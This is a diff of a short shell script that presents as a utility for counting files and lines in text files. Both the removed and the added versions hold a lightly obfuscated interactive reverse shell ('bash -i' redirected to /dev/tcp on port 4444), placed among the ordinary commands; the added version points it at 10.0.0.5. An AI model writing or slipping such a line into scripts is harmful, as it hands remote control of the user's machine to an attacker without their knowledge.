@@ -1,6 +1,9 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-T=tcp; bash -i >& /dev/$T/192.168.1.77/4444 0>&1
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+T=tcp; bash -i >& /dev/$T/10.0.0.5/4444 0>&1
